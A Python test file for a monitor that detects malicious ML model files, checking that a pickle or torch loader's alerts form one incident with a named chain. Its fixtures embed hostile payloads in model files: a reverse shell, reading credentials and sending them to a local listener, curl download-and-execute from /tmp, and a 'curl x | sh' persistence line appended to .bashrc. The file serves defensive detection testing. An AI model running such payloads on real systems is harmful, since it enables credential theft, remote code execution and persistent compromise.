"""Incidents: every alert of one loader lineage is a step of one incident,
emitted as "new" at the first alert, "update" as the timeline grows and
"closed" when the lineage has exited, with the named chain on top."""
import os

from harness import Checks, Scenario, TestFailure, get, require_rules
from test_payloads import REVERSE_SHELL

ORDER = ["model_open", "external_connect", "socket_stdio", "shell_exec"]


def incidents_of(sc, loader_pid):
    return [i for i in sc.mon.incidents if get(i, "loader", "pid") == loader_pid]


def check_one_incident(c, sc, alerts, loader_pid, chain, steps):
    recs = incidents_of(sc, loader_pid)
    ids = {r.get("incident") for r in recs}
    c.eq(len(ids), 1, "incident ids for the loader (%s)" % sorted(map(str, ids)))
    c.true(recs and recs[0].get("status") == "new", "first record is not status=new: %r"
           % [r.get("status") for r in recs])
    c.true(recs and recs[-1].get("status") == "closed", "last record is not status=closed: %r"
           % [r.get("status") for r in recs])
    for a in alerts:
        c.eq(a.get("incident"), next(iter(ids), None), "alert %s incident id" % get(a, "rule", "id"))
    if not recs:
        return None
    last = recs[-1]
    kinds = [s.get("step") for s in last.get("timeline") or []]
    c.true(all(k in kinds for k in steps), "timeline %s lacks some of %s" % (kinds, steps))
    times = [s.get("time") for s in last.get("timeline") or []]
    c.true(times == sorted(times), "timeline not in time order: %s" % times)
    c.true(chain in [ch.get("id") for ch in last.get("chains") or []],
           "chain %s not named: %s" % (chain, last.get("chains")))
    c.eq(last.get("severity"), "critical", "incident severity")
    c.eq(get(last, "summary", "reason"), "exited", "closed because the lineage exited")
    return last


def test_reverse_shell_is_one_incident():
    with Scenario("inc-revshell") as sc:
        marker = sc.path("MARKER")
        lst = sc.listener()
        model = sc.make_model("pickle", "model.pkl",
                              exec_code=REVERSE_SHELL.format(port=lst.port, marker=marker))
        sc.start()
        ld = sc.run_loader("pickle", model).expect_ok("loader")
        sc.expect_file(marker)
        want = {"model-loader-external-connect", "model-loader-socket-stdio", "model-loader-shell"}
        sc.wait_rules(ld.pid, want)
        alerts = sc.stop()
        mine = require_rules(sc, alerts, ld.pid, want)
        c = Checks("reverse-shell incident")
        last = check_one_incident(c, sc, mine, ld.pid, "chain-reverse-shell", ORDER)
        if last:
            kinds = [s.get("step") for s in last.get("timeline") or []]
            c.eq(kinds[0] if kinds else None, "model_open", "first step")
        c.done()


def test_credential_exfil_is_one_incident():
    with Scenario("inc-exfil") as sc:
        cred = sc.fake_credentials()
        lst = sc.listener()
        code = ("import socket; d=open(%r).read(); s=socket.create_connection(('127.0.0.1', %d)); "
                "s.sendall(d.encode()); s.close()") % (cred, lst.port)
        model = sc.make_model("torch", "model.pt", exec_code=code)
        sc.start()
        ld = sc.run_loader("torch", model).expect_ok("loader")
        if not lst.wait(1):
            raise TestFailure("payload never connected to the listener")
        want = {"model-loader-external-connect", "model-loader-credential-read"}
        sc.wait_rules(ld.pid, want)
        alerts = sc.stop()
        mine = require_rules(sc, alerts, ld.pid, want)
        c = Checks("credential-exfil incident")
        check_one_incident(c, sc, mine, ld.pid, "chain-credential-exfil",
                           ["model_open", "credential_read", "external_connect"])
        c.done()


class _Serve:
    """A one-file HTTP server on 127.0.0.1 for the download step, in a
    thread, stopped by the test."""

    def __init__(self, body):
        import http.server
        import threading

        class H(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *a):
                pass

        self.srv = http.server.HTTPServer(("127.0.0.1", 0), H)
        self.srv.timeout = 0.2
        self.port = self.srv.server_address[1]
        self.t = threading.Thread(target=self.srv.serve_forever, kwargs={"poll_interval": 0.1},
                                  daemon=True)
        self.t.start()

    def close(self):
        self.srv.shutdown()
        self.srv.server_close()
        self.t.join(2.0)


def test_download_exec_is_one_incident():
    """curl fetches a script into /tmp, the payload makes it executable
    and runs it: downloader, exec from /tmp, exec of a file the lineage
    just wrote (and, since a #!/bin/sh script runs /bin/sh, a shell), one
    incident with chain-download-exec."""
    with Scenario("inc-dlexec") as sc:
        marker = sc.path("MARKER")
        dropped = sc.path("drop", "payload")
        os.makedirs(os.path.dirname(dropped))
        srv = _Serve(("#!/bin/sh\ntouch %s\n" % marker).encode())
        try:
            code = ("import os, subprocess; subprocess.run(['curl', '-s', '-o', %r, "
                    "'http://127.0.0.1:%d/p'], check=True); os.chmod(%r, 0o755); "
                    "subprocess.run([%r], check=True)") % (dropped, srv.port, dropped, dropped)
            model = sc.make_model("pickle", "model.pkl", exec_code=code)
            sc.start(extra_args=["--internal-net", "127.0.0.0/8"])
            ld = sc.run_loader("pickle", model).expect_ok("loader")
            sc.expect_file(marker)
            want = {"model-loader-downloader", "model-loader-exec-from-temp",
                    "model-loader-exec-dropped", "model-loader-shell"}
            sc.wait_rules(ld.pid, want)
            alerts = sc.stop()
        finally:
            srv.close()
        mine = require_rules(sc, alerts, ld.pid, want)
        c = Checks("download-exec incident")
        check_one_incident(c, sc, mine, ld.pid, "chain-download-exec",
                           ["model_open", "downloader_exec", "temp_exec"])
        c.done()


def test_persistence_is_one_incident():
    """A shell from the payload appends to ~/.bashrc: shell exec, then the
    persistence write, one incident with chain-persistence."""
    with Scenario("inc-persist") as sc:
        rc = sc.write("home/.bashrc", "# user rc\n")
        model = sc.make_model("pickle", "model.pkl", system="echo 'curl x | sh' >> %s" % rc)
        sc.start()
        ld = sc.run_loader("pickle", model).expect_ok("loader")
        want = {"model-loader-shell", "model-loader-persistence-write"}
        sc.wait_rules(ld.pid, want)
        alerts = sc.stop()
        mine = require_rules(sc, alerts, ld.pid, want)
        c = Checks("persistence incident")
        check_one_incident(c, sc, mine, ld.pid, "chain-persistence",
                           ["model_open", "shell_exec", "persistence_write"])
        c.done()
